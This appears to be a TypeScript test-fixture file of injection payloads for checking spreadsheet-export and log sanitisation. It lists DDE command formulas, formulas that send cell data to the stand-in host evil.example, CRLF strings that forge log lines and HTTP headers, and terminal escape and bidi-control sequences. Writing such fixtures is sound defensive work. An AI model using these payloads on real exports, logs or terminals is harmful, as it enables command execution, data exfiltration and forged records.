// Source of the classes: the fault table's row F3 (formulas in exports, forged lines in the log).

/** Prefixes by which a spreadsheet treats a cell as a formula. */
export const formulaStrings: readonly string[] = [
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '=1+1',
  '+1+1',
  '-1+1',
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '=IMPORTXML("https://evil.example/","//a")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  "-2+3+cmd|'/C calc'!A0",
  '%0A=1+1',
  '"=1+1',
  ';=1+1',
  ',=1+1',
  '","=1+1","',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff201+1',
  '\u200b=1+1',
  '\ufeff=1+1',
]

/** Occurs in every line that would be forged, and in none of ours. */
export const forged = 'forged-by-an-attacker'

const line = `{"level":"fatal","msg":"${forged}"}`

/** Characters that end a line of the log, or control the terminal of its reader. */
export const logStrings: readonly string[] = [
  `\r\n${line}`,
  `\n${line}`,
  `\r${line}`,
  `\u0085${line}`,
  `\u000b${line}`,
  `\u000c${line}`,
  `\u2028${line}`,
  `\u2029${line}`,
  `%0d%0a${line}`,
  `%250d%250a${line}`,
  `\\r\\n${line}`,
  `","level":"fatal","msg":"${forged}`,
  `\\","level":"fatal","msg":"${forged}`,
  `\\`,
  `"},{"msg":"${forged}"}`,
  `\r\nSet-Cookie: forged=${forged}`,
  `\r\nLocation: https://evil.example/`,
  `\r\n\r\n<html>${forged}`,
  // Characters whose low bytes are the two that end a line.
  `\u560d\u560aSet-Cookie: forged=${forged}`,
  `\u010d\u010aSet-Cookie: forged=${forged}`,
  '\u001b[2K\u001b[1A\u001b[31mwiped',
  '\u001b]0;title\u0007',
  '\u001b]8;;https://evil.example/\u001b\\link\u001b]8;;\u001b\\',
  '\u009b31mred',
  '\u0090q\u009c',
  '\b\b\b\b\b\b\b\bwiped',
  '\u202eegassem\u202c',
  '\u2066turned\u2069',
  '\u007f\u007f',
  // Redacted in a log; the redaction must not remove the end of the text with it.
  `"sid":"a\\`,
  `?phone=1&sid=2\\`,
  `"cookie": "a\\", ${line}`,
  'authorization: Bearer x\\',
]

/** Lone surrogates, which no text of a database can contain. */
export const tornStrings: readonly string[] = ['\ud800', 'a\udc00b', '\udfff\ud800=1', '\ud83d']
